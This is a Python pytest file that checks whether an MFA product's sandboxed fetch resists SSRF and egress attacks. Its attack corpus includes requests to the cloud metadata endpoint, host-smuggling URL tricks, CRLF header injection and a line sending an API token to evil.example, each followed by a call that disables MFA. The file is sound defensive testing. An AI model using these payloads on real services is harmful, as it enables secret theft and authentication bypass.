"""Attacks through ``fetch``: reach what the egress list does not name, smuggle a host past the
URL parser, inject headers, exhaust the host with a hostile server. Each runs inline and in a
confined worker (where the parent makes the call) and must fail closed, leak nothing, and never
reach a forbidden address; the benign login after it decides normally.

Loopback only: the stand-in listens on 127.0.0.1, and names resolve through a table the test
installs (``egress.resolve``), so a name "resolving" to 169.254.169.254 or 10.0.0.7 is refused
before any packet leaves. ``{base}`` in an attack is the stand-in's URL.
"""

from __future__ import annotations

import importlib.util
import sys
import time
from pathlib import Path
from types import ModuleType

import pytest
from http_stand_in import serve_stand_in

from contextmfa.flow import InlineFlow
from contextmfa.sandbox import InMemoryActionCache, SandboxLimits
from contextmfa.sandbox import egress as egress_module
from contextmfa.sandbox.http_modes import HttpCalls
from contextmfa.sandbox.http_session import HttpLimits
from contextmfa.sandbox.process import ProcessFlow


def _judge() -> ModuleType:
    path = Path(__file__).resolve().parent / "conftest.py"
    spec = importlib.util.spec_from_file_location("egress_attacks_judge", path)
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    sys.modules[spec.name] = module
    spec.loader.exec_module(module)
    return module


JUDGE = _judge()
LIMITS = SandboxLimits(timeout_ms=4000)
NAMES = {
    "metadata.example": ["169.254.169.254"],
    "private.example": ["10.0.0.7"],
    "v6.example": ["::ffff:169.254.169.254"],
    "nat64.example": ["64:ff9b::a9fe:a9fe"],
    "rebind.example": ["93.184.216.34", "127.0.0.1"],
    "loopback.example": ["127.0.0.1"],
}
"""What the attack's names resolve to; every one is refused before a connection is made."""

F, L, E = "forbidden", "limit", "exception"
ATTACKS: dict[str, tuple[str, tuple[str, ...], bool]] = {
    # name: (body, kinds, reaches the stand-in)
    "metadata address": ('fetch("http://169.254.169.254/latest/meta-data/")', (F,), False),
    "metadata by name": ('fetch("http://metadata.example/latest/meta-data/")', (F,), False),
    "private by name": ('fetch("http://private.example/admin")', (F,), False),
    "loopback by name": ('fetch("http://loopback.example:{port}/score")', (F,), False),
    "mapped IPv6 by name": ('fetch("http://v6.example/")', (F,), False),
    "NAT64 by name": ('fetch("https://nat64.example/")', (F,), False),
    "DNS rebinding answer": ('fetch("https://rebind.example/")', (F,), False),
    "userinfo host": ('fetch("http://evil.example@127.0.0.1:{port}/score")', (F,), False),
    "userinfo tail": ('fetch("http://127.0.0.1:{port}@evil.example/score")', (F,), False),
    "backslash host": ('fetch("http://127.0.0.1:{port}\\\\@evil.example/")', (F,), False),
    "IPv4-mapped literal": ('fetch("http://[::ffff:127.0.0.1]:{port}/score")', (F,), False),
    "decimal IPv4": ('fetch("http://2130706433:{port}/score")', (F,), False),
    "octal IPv4": ('fetch("http://0177.0.0.1:{port}/score")', (F,), False),
    "hex IPv4": ('fetch("http://0x7f000001:{port}/score")', (F,), False),
    "IPv6 zone": ('fetch("http://[fe80::1%25eth0]/")', (F,), False),
    "file scheme": ('fetch("file:///etc/passwd")', (F,), False),
    "unicode dot host": ('fetch("http://127\\u30020.0.1:{port}/score")', (F,), False),
    "dot segments": ('fetch("{base}/score/%2e%2e/admin")', (F,), False),
    "CRLF in a header": (
        'fetch("{base}/score", headers={"X-A": "v\\r\\nHost: evil.example"})',
        (F,),
        False,
    ),
    "CRLF in the URL": ('fetch("{base}/score\\r\\nX-Injected: 1")', (F,), False),
    "CRLF in the method": ('fetch("{base}/score", method="GET / HTTP/1.1\\r\\nX: y")', (F,), False),
    "Host override": ('fetch("{base}/score", headers={"Host": "evil.example"})', (F,), False),
    "proxy header": ('fetch("{base}/score", headers={"Proxy-Authorization": "x"})', (F,), False),
    "non-ASCII header": ('fetch("{base}/score", headers={"X-A": "caf\\u00e9"})', (F,), False),
    "secret to an unlisted host": (
        'fetch("https://evil.example/c?k=" + event.secrets.API_TOKEN)',
        (F,),
        False,
    ),
    "catch the refusal and go on": (
        'try:\n    fetch("http://169.254.169.254/")\nexcept Exception:\n    pass',
        (F,),
        False,
    ),
    "redirect to metadata": (
        'fetch("{base}/redirect?to=http://169.254.169.254/latest/meta-data/")',
        (F,),
        True,
    ),
    "redirect to a private name": (
        'fetch("{base}/redirect?to=http://private.example/")',
        (F,),
        True,
    ),
    "decompression bomb": ('fetch("{base}/bomb").text', (L,), True),
    "huge body": ('fetch("{base}/huge?mb=8")', (L,), True),
    "slowloris server": ('fetch("{base}/slowloris", timeout_ms=800)', (E, "timeout"), True),
    "huge headers": ('fetch("{base}/big-headers")', (E,), True),
    "calls in a loop": (
        'for _ in range(1000):\n    try:\n        fetch("{base}/score")\n    except Exception:\n'
        "        pass",
        (L,),
        True,
    ),
}
"""Each attack, if it worked, goes on to skip MFA (the dispatcher adds it): a hole shows up as
an allowed login."""


def _body(body: str, base: str, port: int) -> str:
    text = body.replace("{base}", base).replace("{port}", str(port))
    return text + '\napi.multifactor.enable("none")'


@pytest.fixture(scope="module")
def stand_in():
    with serve_stand_in() as server:
        yield server


@pytest.fixture(scope="module", autouse=True)
def names():
    original = egress_module.resolve

    def resolve(host: str, port: int) -> list[str]:
        if host not in NAMES:
            raise OSError("unknown name (the test resolves only its own)")
        return NAMES[host]

    egress_module.resolve = resolve
    yield
    egress_module.resolve = original


@pytest.fixture(scope="module")
def calls(stand_in):
    limits = HttpLimits(
        egress=(
            stand_in.base,
            "http://metadata.example",
            "http://private.example",
            f"http://loopback.example:{stand_in.port}",
            "http://v6.example",
            "https://nat64.example",
            "https://rebind.example",
        ),
        max_response_bytes=1_048_576,
    )
    return HttpCalls(limits, lambda _: {"API_TOKEN": JUDGE.SECRET}, frozenset({"hostile"}), "live")


@pytest.fixture(scope="module", params=["inline", "process"])
def flow(request, stand_in):
    attacks = {
        name: _body(body, stand_in.base, stand_in.port) for name, (body, _, _) in ATTACKS.items()
    }
    action = JUDGE.compile_or_problems(JUDGE.dispatcher(attacks), "/tenant/actions/hostile.py")
    assert not isinstance(action, list), action
    options = {
        "secrets_for": lambda _: {"API_TOKEN": JUDGE.SECRET},
        "cache": InMemoryActionCache(),
        "limits": LIMITS,
        "on_error": "deny",
    }
    if request.param == "inline":
        yield InlineFlow([action], **options)
        return
    flow = ProcessFlow([action], **options)
    yield flow
    flow.close()


def test_the_corpus_is_large_enough():
    assert len(ATTACKS) >= 15


@pytest.mark.parametrize("name", list(ATTACKS))
def test_egress_attack_holds(flow, calls, stand_in, name):
    _, kinds, reaches = ATTACKS[name]
    before = len(stand_in.requests)
    session = calls.session()
    started = time.perf_counter()
    outcome = flow.run(JUDGE.event_with(name), now=JUDGE.NOW, tenant_id="acme", http=session)
    verdict = JUDGE.Verdict(compiled=True, outcome=outcome, elapsed=time.perf_counter() - started)
    verdict.assert_failed_closed(*kinds)
    message = verdict.error["message"]
    assert "\n" not in message and "\r" not in message, message
    assert verdict.elapsed < 3.0, verdict.elapsed
    assert JUDGE.SECRET not in repr(session.exchanges)
    if not reaches:
        assert len(stand_in.requests) == before, stand_in.requests[before:]
    benign = flow.run(JUDGE.event_with(None), now=JUDGE.NOW, tenant_id="acme", http=calls.session())
    assert benign.errors == [] and [type(d).__name__ for d in benign.directives] == ["Require"]
